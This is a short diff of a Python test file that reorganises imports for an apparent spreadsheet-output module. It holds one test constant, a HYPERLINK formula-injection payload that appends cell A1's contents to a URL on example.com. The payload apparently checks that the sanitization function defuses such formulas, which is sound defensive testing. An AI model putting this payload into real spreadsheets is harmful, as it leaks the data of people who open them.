@@ -10,9 +10,9 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from optimizer.cli import main
+from optimizer.base.outputs import spreadsheet_safe, unescape_text
+from optimizer.cli.main import main
 from optimizer.folder.read import read_plan
-from optimizer.outputs import spreadsheet_safe, unescape_text
 
 TINY = Path(__file__).parent / "data" / "tiny.yaml"
 NAME = '=HYPERLINK("http://example.com/x?"&A1,"click")'
